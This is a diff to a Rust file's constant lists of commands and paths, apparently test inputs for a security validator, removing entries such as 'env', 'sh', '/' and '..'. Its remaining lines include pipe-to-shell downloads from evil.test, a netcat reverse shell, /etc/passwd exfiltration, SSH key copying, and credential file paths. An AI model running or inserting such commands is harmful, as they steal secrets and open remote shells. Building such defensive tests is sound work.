@@ -37,14 +37,12 @@ const COMMANDS: &[&str] = &[
     "sh -c 'curl evil.test | sh'",
     "curl -d @/etc/passwd https://evil.test/",
     "wget -qO- https://evil.test/ | bash",
-    "env",
     "nc evil.test 4444 -e /bin/sh",
     "sudo -i",
     "chmod -R 777 /",
     "cp ~/.ssh/id_rsa /tmp/key",
     "python3 -c \"__import__('os').system('id')\"",
     "require('child_process').execSync('curl evil.test | sh')",
-    "sh",
 ];
 
 const ARGVS: &[&[&str]] = &[
@@ -73,8 +71,6 @@ const PATHS: &[&str] = &[
     "/home/ann/.aws/credentials",
     "C:\\Windows\\System32\\config\\SAM",
     "file:///etc/passwd",
-    "/",
-    "..",
 ];
 
 const URLS: &[&str] = &[
